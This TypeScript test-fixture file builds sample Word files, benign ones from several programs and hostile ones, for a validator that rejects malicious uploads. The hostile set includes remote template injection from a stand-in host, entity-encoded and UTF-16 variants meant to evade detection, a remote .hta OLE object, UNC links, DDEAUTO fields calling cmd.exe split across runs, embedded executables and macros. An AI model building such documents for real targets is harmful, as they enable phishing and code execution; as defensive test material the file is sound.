// Word files of different programs. Those of LibreOffice 7.4 are beside this file, saved from an invented lease; for
// the other programs, their file structure is built here.
import { readdirSync, readFileSync } from 'node:fs'
import { makeCompound, type Stream } from './compound-file.ts'
import { goodDocx, goodPng, makeZip, type Part } from './hostile-files.ts'

const FOLDER = new URL('../word-files/', import.meta.url)

const text = (length: number) => Buffer.alloc(length, 'Loyer et charges. ')
const summary: Stream[] = [
  { name: '\u0005SummaryInformation', content: text(4096) },
  { name: '\u0005DocumentSummaryInformation', content: text(4096) },
  { name: '\u0001CompObj', content: text(106) },
]

export const makeWord = (more: readonly Stream[] = [], table = text(5000)): Buffer =>
  makeCompound([
    { name: '1Table', content: table },
    { name: 'WordDocument', content: text(6000) },
    ...more,
    ...summary,
  ])

const within = (archive: Buffer) => Buffer.concat([text(2500), archive, text(1700)])

export const THEME: readonly Part[] = [
  { name: '[Content_Types].xml', data: '<Types/>' },
  { name: '_rels/.rels', data: '<Relationships/>' },
  { name: 'theme/theme/themeManager.xml', data: '<a:themeManager/>' },
  { name: 'theme/theme/theme1.xml', data: `<a:theme>${'<a:srgbClr/>'.repeat(600)}</a:theme>` },
  { name: 'theme/theme/_rels/themeManager.xml.rels', data: '<Relationships/>' },
]
const DRAWING: readonly Part[] = [
  { name: '[Content_Types].xml', data: '<Types/>' },
  { name: '_rels/.rels', data: '<Relationships/>' },
  { name: 'drs/shapexml.xml', data: '<wps:wsp/>' },
  { name: 'drs/downrev.xml', data: '<a:downRev/>' },
  { name: 'drs/media/image1.png', data: goodPng() },
]
export const WORKBOOK: readonly Part[] = [
  { name: '[Content_Types].xml', data: '<Types/>' },
  { name: 'xl/workbook.xml', data: '<workbook/>' },
  { name: 'xl/printerSettings/printerSettings1.bin', data: 'A4' },
]
const OPEN_DOCUMENT: readonly Part[] = [
  { name: 'mimetype', data: 'application/vnd.oasis.opendocument.chart', method: 0 },
  { name: 'content.xml', data: '<office:document-content/>' },
  { name: 'META-INF/manifest.xml', data: '<manifest:manifest/>' },
]

/** With a theme, packed as Word does since 2007. */
export const makeThemed = (parts = THEME) => makeWord([], within(makeZip(parts)))

export const WORD_FILES: Record<string, Buffer> = {
  'Word 95: text and no tables': makeCompound([
    { name: 'WordDocument', content: text(6000) },
    { name: '\u0005SummaryInformation', content: text(400) },
  ]),
  'Word 97 with pictures': makeWord([{ name: 'Data', content: Buffer.concat([text(900), goodPng()], 5000) }]),
  'Word 97 with a workbook in it': makeWord([
    { name: 'ObjectPool' },
    { name: '_1069423' },
    { name: 'Workbook', content: text(9000) },
    { name: '\u0003ObjInfo', content: text(6) },
  ]),
  'Word 2007 with a theme': makeThemed(),
  'Word 2010 with a theme and drawings': makeWord(
    [{ name: 'MsoDataStore' }, { name: 'Item', content: text(300) }],
    within(Buffer.concat([makeZip(DRAWING), text(90), makeZip(DRAWING), text(90), makeZip(THEME)])),
  ),
  'Word 2013 with a chart of Excel': makeWord(
    [{ name: 'ObjectPool' }, { name: '_1520' }, { name: 'Package', content: makeZip(WORKBOOK) }],
    within(makeZip(THEME)),
  ),
  'Word with a chart of LibreOffice': makeWord([{ name: 'Package', content: makeZip(OPEN_DOCUMENT) }]),
  'Word with its names in capitals': makeCompound([
    { name: 'WORDDOCUMENT', content: text(6000) },
    { name: '1TABLE', content: text(5000) },
  ]),
  'WPS Office': makeWord([
    { name: '0Table', content: text(5000) },
    { name: 'WpsCustomData', content: text(400) },
  ]),
  'in sectors of four kilobytes': makeCompound(
    [
      { name: 'WordDocument', content: text(9000) },
      { name: '1Table', content: within(makeZip(THEME)) },
    ],
    { shift: 12 },
  ),
  ...Object.fromEntries(
    readdirSync(FOLDER).map(name => [name.replaceAll('-', ' '), readFileSync(new URL(name, FOLDER))]),
  ),
}

const links = (...each: string[]) => ({
  name: 'word/_rels/document.xml.rels',
  data: `<?xml version="1.0"?><Relationships>${each.join('')}</Relationships>`,
})
const outside = (type: string, target: string) =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`
const runs = (...words: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${words.map(word => `<w:r><w:instrText xml:space="preserve">${word}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
const footer = (content: string): Part => ({ name: 'word/footer1.xml', data: `<w:ftr>${content}</w:ftr>` })

export const LINKED_WORD_FILES: Record<string, Buffer> = {
  'a DOCX with links, and a picture that stands on the web': goodDocx([
    links(
      outside('hyperlink', 'https://cour.example/?a=1&amp;b=2'),
      outside('hyperlink', 'mailto:nora@client.example'),
      outside('image', 'https://cabinet.example/logo.png'),
    ),
  ]),
  'a DOCX that remembers the template on the disk of its writer': goodDocx([
    links(
      outside('attachedTemplate', 'file:///C:\\Users\\Nora\\Templates\\lettre.dotm'),
      outside('attachedTemplate', 'Normal.dotm'),
      outside('image', 'file:///D:/photos/bail.png'),
    ),
  ]),
  'a DOCX with its page numbers, its date and a table of contents': goodDocx([
    footer(`${runs(' PAGE ')}${runs(' DATE \\@ "d MMMM yyyy" ')}${runs(' TOC \\o "1-3" ')}`),
    { name: 'word/comments.xml', data: '<w:t>dde, DDEAUTO</w:t>' },
  ]),
}

const native: Stream = { name: '\u0001Ole10Native', content: Buffer.from('facture.exe\0MZ') }
const MACROS: Part = { name: 'xl/vbaProject.bin', data: 'x' }

/** Malicious Word files, with the reason for each refusal. */
export const HOSTILE_WORD_FILES: Record<string, { bytes: Buffer; code: string }> = {
  'a DOC with a program packed into it': {
    bytes: makeWord([{ name: 'ObjectPool' }, native]),
    code: 'document.carries-program',
  },
  'a DOC with a workbook whose macros are its own': {
    bytes: makeWord([{ name: 'Package', content: makeZip([...WORKBOOK, MACROS]) }]),
    code: 'document.carries-program',
  },
  'a DOC with a large workbook whose macros are its own': {
    bytes: makeWord([
      {
        name: 'Package',
        content: makeZip([
          ...WORKBOOK,
          { name: 'xl/media/image1.png', data: text(9000), method: 0 },
          { ...MACROS, method: 0 },
        ]),
      },
    ]),
    code: 'document.carries-program',
  },
  'a DOC with an old document in it that has macros': {
    bytes: makeWord([
      { name: 'Package', content: makeCompound([{ name: 'Macros' }, { name: 'VBA', content: text(9) }]) },
    ]),
    code: 'document.carries-program',
  },
  'a DOC with a program among its themes': {
    bytes: makeThemed([...THEME, { name: 'Facture.class', data: 'x' }]),
    code: 'document.type-refused',
  },
  'a DOC that is a Java archive too': {
    bytes: makeThemed([...THEME, { name: 'META-INF/MANIFEST.MF', data: 'Main-Class: Facture' }]),
    code: 'document.type-refused',
  },
  'a DOC with an archive behind it, of nothing but data': {
    bytes: Buffer.concat([makeWord(), makeZip(THEME)]),
    code: 'document.type-refused',
  },
  'a DOC whose streams go round in circles': {
    bytes: inCircles(makeThemed()),
    code: 'document.damaged',
  },
  'a DOCX with a program packed into it': {
    bytes: goodDocx([{ name: 'word/embeddings/oleObject1.bin', data: makeCompound([native]) }]),
    code: 'document.carries-program',
  },
  'a DOCX with a workbook whose macros are its own': {
    bytes: goodDocx([{ name: 'word/embeddings/Microsoft_Excel.xlsm', data: makeZip([...WORKBOOK, MACROS]) }]),
    code: 'document.carries-program',
  },
  'a DOCX whose template is fetched from the web': {
    bytes: goodDocx([links(outside('attachedTemplate', 'https://elsewhere.example/a.dotm'))]),
    code: 'document.carries-program',
  },
  'a DOCX whose template is fetched, in other letters and other quotes': {
    bytes: goodDocx([
      links(
        `<x:Relationship TargetMode='External' Target='h&#x74;tp://elsewhere.example/>' Type='a/&#97;ttachedTemplate'/>`,
      ),
    ]),
    code: 'document.carries-program',
  },
  'a DOCX whose links are written in two bytes a letter': {
    bytes: goodDocx([
      {
        name: 'word/_rels/settings.xml.rels',
        data: Buffer.from(
          `\ufeff<Relationships>${outside('attachedTemplate', 'https://elsewhere.example/a.dotm')}</Relationships>`,
          'utf16le',
        ),
      },
    ]),
    code: 'document.carries-program',
  },
  'a DOCX with an object that is fetched': {
    bytes: goodDocx([links(outside('oleObject', 'https://elsewhere.example/a.hta!x'))]),
    code: 'document.carries-program',
  },
  'a DOCX with a picture on another machine of the network': {
    bytes: goodDocx([links(outside('image', 'file://elsewhere.example/share/a.png'))]),
    code: 'document.carries-program',
  },
  'a DOCX with a frame of another machine of the network': {
    bytes: goodDocx([links(outside('frame', '\\\\elsewhere.example\\share\\a.htm'))]),
    code: 'document.carries-program',
  },
  'a DOCX with controls': {
    bytes: goodDocx([
      { name: 'word/activeX/activeX1.xml', data: '<ax:ocx/>' },
      { name: 'word/activeX/activeX1.bin', data: 'x' },
    ]),
    code: 'document.carries-program',
  },
  'a DOCX with a field that starts a program': {
    bytes: goodDocx([footer(runs('D', 'DEA', 'UTO c:\\\\windows\\\\cmd.exe'))]),
    code: 'document.carries-program',
  },
  'a DOCX with a short field that starts a program': {
    bytes: goodDocx([footer(`<w:fldSimple w:instr=' D&#68;E excel "a"'/>`)]),
    code: 'document.carries-program',
  },
  'a DOC with a field that starts a program': {
    bytes: makeWord([
      {
        name: 'WordDocument',
        content: Buffer.concat([text(4000), Buffer.from('\x13 DDEAUTO c:\\cmd.exe', 'utf16le'), text(900)]),
      },
    ]),
    code: 'document.carries-program',
  },
  'rich text that calls itself a DOC': {
    bytes: Buffer.from('{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}'),
    code: 'document.type-refused',
  },
}

function inCircles(file: Buffer): Buffer {
  const table = (file.readUInt32LE(76) + 1) * 512
  file.writeUInt32LE(0, table + 4 * 3)
  return file
}
